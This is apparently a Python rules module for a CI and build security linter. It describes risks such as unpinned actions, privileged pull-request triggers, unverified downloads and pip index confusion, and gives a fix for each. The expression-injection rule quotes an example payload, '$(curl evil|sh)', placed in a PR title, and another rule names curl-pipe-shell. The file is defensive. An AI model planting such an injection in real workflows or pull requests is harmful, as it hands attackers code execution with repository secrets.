"""check-pipeline rules (MLW8xx: CI and build configuration)."""

from __future__ import annotations

from mlwarden.core.findings import Rule, Severity

_C = "check-pipeline"

# -- GitHub Actions (MLW801-MLW809)
GHA_UNPINNED_ACTION = Rule(
    "MLW801",
    "gha-unpinned-action",
    Severity.HIGH,
    "Action or reusable workflow not pinned to a commit",
    "A tag or branch can be moved to new code by whoever controls the action's repository (tj-actions/"
    "changed-files, 2025). Pin `uses:` to the full 40-hex commit and keep the tag as a comment: "
    "`uses: owner/repo@<sha> # v1.2.3` (`mlwarden check-pipeline --fix-pins` does it). `docker://` images "
    "need an `@sha256:` digest. GitHub-owned `actions/*` and `github/*` are medium.",
    cwe=(829, 1357),
    check=_C,
)
GHA_PR_TARGET_CHECKOUT = Rule(
    "MLW802",
    "gha-pr-target-checkout",
    Severity.CRITICAL,
    "Privileged trigger checks out or runs pull-request code",
    "`pull_request_target`, `issue_comment` and `workflow_run` jobs run with the base repository's secrets "
    "and a write token; checking out the PR head and then building or testing it runs a stranger's code "
    "next to them. Use `pull_request` for untrusted code, or split into an unprivileged build and a "
    "privileged job that only reads its artifacts.",
    cwe=(829, 94),
    check=_C,
)
GHA_EXPRESSION_INJECTION = Rule(
    "MLW803",
    "gha-expression-injection",
    Severity.HIGH,
    "Attacker-controlled `${{ }}` expression expanded into a script",
    "`${{ }}` is pasted into the script before the shell runs, so a PR title or branch name like "
    "`$(curl evil|sh)` becomes code. Pass the value through `env:` (`TITLE: ${{ github.event.pull_request"
    '.title }}`) and use `"$TITLE"` in the script.',
    cwe=(78, 94),
    check=_C,
)
GHA_EXCESSIVE_PERMISSIONS = Rule(
    "MLW804",
    "gha-excessive-permissions",
    Severity.MEDIUM,
    "Broad GITHUB_TOKEN permissions",
    "`write-all` (high) or write scopes for the whole workflow give every job, and every action it runs, "
    "more than it needs. Declare `permissions: {}` or read scopes at the top and grant write scopes "
    "to the one job that needs them.",
    cwe=(250,),
    check=_C,
)
GHA_PERMISSIONS_UNDECLARED = Rule(
    "MLW805",
    "gha-permissions-undeclared",
    Severity.LOW,
    "Workflow does not declare token permissions",
    "Without `permissions:` the token gets the repository default, which is read-write on older "
    "repositories and organisations. Add `permissions: contents: read` at the top of the workflow.",
    cwe=(250,),
    check=_C,
)
GHA_SELF_HOSTED_PR = Rule(
    "MLW806",
    "gha-self-hosted-pr",
    Severity.HIGH,
    "Self-hosted runner runs pull-request code",
    "Anyone who opens a pull request on a public repository runs code on this self-hosted (GPU) runner, "
    "which persists between jobs. Use GitHub-hosted or ephemeral runners for PRs, or require approval "
    "and restrict the job to same-repository branches.",
    cwe=(829,),
    check=_C,
)
GHA_CACHE_POISONING = Rule(
    "MLW807",
    "gha-cache-poisoning",
    Severity.MEDIUM,
    "Cache shared with untrusted or release runs",
    "A cache written by a privileged run of PR code, or restored into a release/publish job, lets one "
    "poisoned run plant code in later builds. Do not cache in release and privileged jobs.",
    cwe=(349,),
    check=_C,
)
# -- GitLab CI (MLW811-MLW812)
GL_INCLUDE_REMOTE = Rule(
    "MLW811",
    "gl-include-remote",
    Severity.HIGH,
    "Remote GitLab include without `integrity:`",
    "`include: remote:` fetches CI configuration from a URL at every pipeline run; whoever controls it "
    "controls your pipeline. Add `integrity: sha256-<base64>` or vendor the file.",
    cwe=(829, 494),
    check=_C,
)
GL_INCLUDE_UNPINNED = Rule(
    "MLW812",
    "gl-include-unpinned",
    Severity.MEDIUM,
    "Project or component include not at a commit",
    "`include: project:` without `ref:` or with a branch/tag, and `component: ...@1.0`/`@~latest` follow "
    "the other project's moving refs. Pin `ref:` (or `@`) to the full commit SHA.",
    cwe=(829,),
    check=_C,
)
# -- images (MLW821-MLW825)
IMAGE_LATEST = Rule(
    "MLW821",
    "image-latest",
    Severity.HIGH,
    "Container image without a tag or with `latest`",
    "`latest` (or no tag) is whatever was pushed last. Pin a version and its digest: "
    "`python:3.12-slim@sha256:<digest>` (`mlwarden check-pipeline --fix-pins`).",
    cwe=(829, 1357),
    check=_C,
)
IMAGE_UNPINNED = Rule(
    "MLW822",
    "image-unpinned",
    Severity.MEDIUM,
    "Container image tag without a digest",
    "Tags are mutable; the same tag can point to a new image tomorrow. Add `@sha256:<digest>` after the "
    "tag (`mlwarden check-pipeline --fix-pins`), or list registries whose tags are immutable in "
    "`trusted-registries`.",
    cwe=(829, 1357),
    check=_C,
)
DOCKER_ADD_REMOTE = Rule(
    "MLW823",
    "docker-add-remote-no-checksum",
    Severity.MEDIUM,
    "Dockerfile `ADD` of a URL without a checksum",
    "`ADD https://...` takes whatever the server sends. Add `--checksum=sha256:<hex>` (BuildKit), or "
    "download and verify in a `RUN` step.",
    cwe=(494,),
    check=_C,
)
DOCKER_ROOT = Rule(
    "MLW824",
    "docker-runs-as-root",
    Severity.LOW,
    "Final image stage runs as root",
    "The final stage sets no `USER`, so the container's process (and anything a loaded pickle runs) is "
    "root. Add `USER <non-root>` at the end of the final stage.",
    cwe=(250,),
    check=_C,
)
DOCKER_NON_MINIMAL = Rule(
    "MLW825",
    "docker-non-minimal-base",
    Severity.INFO,
    "Full distribution base image",
    "A full OS image carries compilers and tools an attacker can use; prefer `-slim`, distroless or a "
    "runtime (not devel) CUDA image for the final stage. Off unless `non-minimal-base = true`.",
    check=_C,
)
# -- downloads (MLW831-MLW836)
CURL_PIPE_SHELL = Rule(
    "MLW831",
    "curl-pipe-shell",
    Severity.HIGH,
    "Downloaded script piped into a shell",
    "`curl ... | sh` runs whatever the server (or anyone on the path) sends, unreviewed and unverifiable. "
    "Download to a file, verify its checksum or signature, then run it; or use a package manager.",
    cwe=(494, 829),
    check=_C,
)
DOWNLOAD_INSECURE = Rule(
    "MLW832",
    "download-insecure",
    Severity.HIGH,
    "Download over plain http",
    "Anyone on the network path can replace what is fetched over http:// (or git://). Use https, and "
    "verify a checksum.",
    cwe=(319, 494),
    check=_C,
)
DOWNLOAD_UNVERIFIED = Rule(
    "MLW833",
    "download-unverified",
    Severity.MEDIUM,
    "Download not verified by a checksum or signature",
    "Nothing in this script, job or Dockerfile checks what was downloaded. Compare it with a known digest "
    '(`echo "<sha256>  file" | sha256sum -c -`) or verify a signature. High for pickle-capable weights '
    "(.pt .pth .ckpt .bin .pkl .joblib), which run code when loaded.",
    cwe=(494, 353),
    check=_C,
)
HF_DOWNLOAD_UNPINNED = Rule(
    "MLW834",
    "hf-download-unpinned",
    Severity.MEDIUM,
    "Hugging Face download not pinned to a commit",
    "A Hub branch (`main`) or tag can be rewritten by the repository owner or a stolen token. Pass "
    "`--revision <40-hex commit>`, use `resolve/<commit>/` URLs, or `git checkout <commit>` after cloning.",
    cwe=(829, 494),
    check=_C,
)
BUCKET_ANONYMOUS = Rule(
    "MLW835",
    "bucket-anonymous",
    Severity.LOW,
    "Anonymous (unsigned) bucket access",
    "`--no-sign-request`/anonymous reads take whatever a public bucket holds now; verify the objects' "
    "checksums or pin object versions.",
    cwe=(494,),
    check=_C,
)
BUCKET_PUBLIC_ACL = Rule(
    "MLW836",
    "bucket-public-acl",
    Severity.MEDIUM,
    "Objects or bucket made public",
    "A public-read/-write ACL or `allUsers` binding exposes models and data (and public-write lets anyone "
    "replace them). Keep buckets private and share through signed URLs.",
    cwe=(732,),
    check=_C,
)
# -- installs on a command line (MLW841-MLW846)
PIP_UNPINNED = Rule(
    "MLW841",
    "pip-unpinned",
    Severity.MEDIUM,
    "pip install of packages without an exact version",
    "A command-line install resolves whatever is newest at build time. Install from a hashed, pinned "
    "requirements file (`pip install --require-hashes -r requirements.txt`) or pin `name==version`.",
    cwe=(1357, 829),
    check=_C,
)
PIP_NO_HASHES = Rule(
    "MLW842",
    "pip-no-hashes",
    Severity.LOW,
    "Pinned command-line install without hashes",
    "A version pin does not say which file is accepted; the command line cannot carry hashes. Move the "
    "pins into a requirements file with `--hash` and install it with `--require-hashes`.",
    cwe=(494, 353),
    check=_C,
)
PIP_VCS_UNPINNED = Rule(
    "MLW843",
    "pip-vcs-unpinned",
    Severity.MEDIUM,
    "pip install from a VCS ref that is not a commit",
    "`git+https://...@main` (or no ref) installs whatever the branch holds now; pin `@<40-hex commit>`.",
    cwe=(829,),
    check=_C,
)
PIP_URL_NO_HASH = Rule(
    "MLW844",
    "pip-url-no-hash",
    Severity.MEDIUM,
    "pip install of a URL without a hash",
    "The archive behind the URL can change; add `#sha256=<hex>` to the URL or install it from a "
    "requirements file with `--hash`.",
    cwe=(494,),
    check=_C,
)
PIP_EXTRA_INDEX = Rule(
    "MLW845",
    "pip-extra-index",
    Severity.MEDIUM,
    "Extra package index on a command line",
    "`--extra-index-url`/`--find-links` merge another source with PyPI and pip takes the highest version "
    "from any of them (torchtriton, 2022: a PyPI package shadowed the PyTorch index's). Use `--index-url` "
    "with one index, or uv's default `first-index` strategy; high for the PyTorch index and "
    "`unsafe-best-match`.",
    cwe=(427, 829),
    check=_C,
)
PIP_TRUSTED_HOST = Rule(
    "MLW846",
    "pip-trusted-host",
    Severity.HIGH,
    "`--trusted-host` on a command line",
    "pip skips TLS verification (and accepts http) for this host; remove it and fix the certificate.",
    cwe=(295,),
    check=_C,
)
# -- other
VCS_CLONE_UNPINNED = Rule(
    "MLW851",
    "vcs-clone-unpinned",
    Severity.LOW,
    "git clone not checked out at a commit (advisory)",
    "The cloned branch or tag can change between builds. `git checkout <40-hex commit>` after cloning.",
    cwe=(829,),
    check=_C,
)

RULES = (
    GHA_UNPINNED_ACTION,
    GHA_PR_TARGET_CHECKOUT,
    GHA_EXPRESSION_INJECTION,
    GHA_EXCESSIVE_PERMISSIONS,
    GHA_PERMISSIONS_UNDECLARED,
    GHA_SELF_HOSTED_PR,
    GHA_CACHE_POISONING,
    GL_INCLUDE_REMOTE,
    GL_INCLUDE_UNPINNED,
    IMAGE_LATEST,
    IMAGE_UNPINNED,
    DOCKER_ADD_REMOTE,
    DOCKER_ROOT,
    DOCKER_NON_MINIMAL,
    CURL_PIPE_SHELL,
    DOWNLOAD_INSECURE,
    DOWNLOAD_UNVERIFIED,
    HF_DOWNLOAD_UNPINNED,
    BUCKET_ANONYMOUS,
    BUCKET_PUBLIC_ACL,
    PIP_UNPINNED,
    PIP_NO_HASHES,
    PIP_VCS_UNPINNED,
    PIP_URL_NO_HASH,
    PIP_EXTRA_INDEX,
    PIP_TRUSTED_HOST,
    VCS_CLONE_UNPINNED,
)
